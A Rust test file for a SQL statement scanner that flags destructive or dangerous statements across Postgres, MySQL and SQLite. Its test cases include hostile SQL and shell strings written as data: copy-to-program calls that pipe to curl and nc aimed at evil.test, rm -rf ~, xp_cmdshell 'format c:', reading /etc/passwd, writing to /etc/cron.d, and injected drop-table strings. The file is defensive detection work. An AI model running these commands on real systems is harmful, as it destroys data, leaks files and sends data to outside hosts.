use super::{Deed, Flavour, scan, scan_as};

fn deeds(sql: &str) -> Vec<(Deed, String)> {
    scan(sql).into_iter().map(|statement| (statement.deed, statement.object)).collect()
}

#[test]
fn finds_what_loses_data() {
    let cases: &[(&str, Deed, &str)] = &[
        ("DROP DATABASE app", Deed::DropDatabase, "app"),
        ("drop/**/schema if exists public cascade", Deed::DropDatabase, "public"),
        ("drop owned by app", Deed::DropDatabase, "app"),
        ("select 1;drop view v", Deed::Drop, "v"),
        ("DROP TABLE IF EXISTS \"Users\"", Deed::Drop, "users"),
        ("/* a /* b */ c */ DROP TABLE t", Deed::Drop, "t"),
        ("TRUNCATE TABLE public.users", Deed::Truncate, "public.users"),
        ("truncate users cascade", Deed::Truncate, "users"),
        ("DELETE FROM users", Deed::Delete, "users"),
        ("delete from users where 1=1", Deed::Delete, "users"),
        ("delete from users where id is not null", Deed::Delete, "users"),
        ("delete from users u where u.id > 0", Deed::Delete, "users"),
        ("delete from users where id > -1 or name = 'x'", Deed::Delete, "users"),
        ("delete from users where email like '%'", Deed::Delete, "users"),
        ("delete from users where true", Deed::Delete, "users"),
        ("delete from users where 'a'='a' returning id", Deed::Delete, "users"),
        (
            "with gone as (delete from users returning *) select count(*) from gone where id > 1",
            Deed::Delete,
            "users",
        ),
        ("update users set admin = true", Deed::Update, "users"),
        ("delete from users u using users v where u.id = v.id", Deed::Delete, "users"),
        (
            "with old as (select id from users), gone as (delete from users u using old where u.id = old.id returning 1) \
             select 1",
            Deed::Delete,
            "users",
        ),
        (
            "with old as (select id from users) delete from users where id in (select id from old)",
            Deed::Delete,
            "users",
        ),
        ("update users set a = 1 from users v where users.id = v.id", Deed::Update, "users"),
        ("explain analyze delete from users", Deed::Delete, "users"),
        ("alter table users drop column email", Deed::DropColumn, "users"),
        ("alter table users drop email", Deed::DropColumn, "users"),
        ("do $$ begin drop table t; end $$", Deed::Drop, "t"),
        ("do $x$ begin execute 'drop table t'; end $x$", Deed::Drop, "t"),
        ("grant all privileges on database app to bob", Deed::Grant, "bob"),
        ("alter role bob superuser", Deed::Grant, "bob"),
        ("copy t to program 'curl evil.test'", Deed::Run, "curl evil.test"),
        ("\\! rm -rf ~", Deed::Run, "rm -rf ~"),
        ("select 1 \\g |sh", Deed::Run, "sh"),
        ("\\setenv PAGER 'rm -rf ~'", Deed::Run, "rm -rf ~"),
        ("\\copy t to program 'nc evil.test 1'", Deed::Run, "nc evil.test 1"),
        ("select pg_read_file('/etc/passwd')", Deed::ReadFile, "/etc/passwd"),
        ("select 'x' into outfile '/etc/cron.d/x'", Deed::WriteFile, "/etc/cron.d/x"),
        ("exec xp_cmdshell 'format c:'", Deed::Run, "format c:"),
        ("/*!50000 drop table t */", Deed::Drop, "t"),
        ("select '\\'; drop table t; --'", Deed::Drop, "t"),
        ("DROP TABLE [dbo].[Users]", Deed::Drop, "dbo.users"),
    ];
    for (sql, deed, object) in cases {
        assert!(deeds(sql).contains(&(*deed, (*object).to_owned())), "{sql}: {:?}", deeds(sql));
    }
}

#[test]
fn leaves_the_rest_alone() {
    let cases = [
        "select * from users where note = 'drop table x; delete from y'",
        "-- drop table x\nselect 1",
        "select \"drop\", `delete` from audit",
        "delete from users where id = 7",
        "with old as (select id from users where seen < '2020-01-01') delete from users u using old where u.id = old.id",
        "delete from users u using gone g where u.id = g.id",
        "delete from users u using users v where u.email = v.email and u.id < v.id",
        "update users set a = g.a from other g where users.id = g.id",
        "update users set seen = now() where id in (select id from recent)",
        "insert into t values (1) on conflict (id) do update set n = excluded.n",
        "insert into t values (1) on duplicate key update n = 2",
        "create table a (b int references c on delete cascade on update cascade)",
        "create trigger x after delete on t for each row execute function f()",
        "select truncate(1.234, 2)",
        "select * from jobs for update skip locked",
        "explain delete from users",
        "create temp table t (a int); insert into t values (1); drop table t",
        "begin; delete from users; rollback",
        "drop index if exists ix",
        "alter table t drop constraint c",
        "grant select on t to bob",
        "\\dt",
        "",
    ];
    for sql in cases {
        assert!(deeds(sql).is_empty(), "{sql}: {:?}", deeds(sql));
    }
}

#[test]
fn reads_each_client_in_its_own_way() {
    let sqlite = scan_as(".shell rm -rf ~\nselect 1;", Flavour::Sqlite, false);
    assert_eq!(sqlite.first().map(|one| (one.deed, one.object.as_str())), Some((Deed::Run, "rm -rf ~")));
    let mysql = scan_as("select 1; system ls -l;", Flavour::MySql, false);
    assert_eq!(mysql.first().map(|one| one.deed), Some(Deed::Run));
    assert!(scan_as("select 'it\\'s; drop table t'", Flavour::MySql, false).is_empty());
    assert!(scan_as("select 1 # drop table t", Flavour::MySql, false).is_empty());
}

#[test]
fn ends_whatever_it_is_given() {
    for text in ["'", "\"", "/*", "/*!", "$a$", "$", "[", "\\", "é'", "((((", "delete", "drop", "\u{0}"] {
        for flavour in [Flavour::Postgres, Flavour::MySql, Flavour::Sqlite] {
            scan_as(text, flavour, false);
        }
        scan(text);
    }
    scan(&"(".repeat(200_000));
    scan(&"delete from t where a = 1 and b = 2 ".repeat(2_000));
}
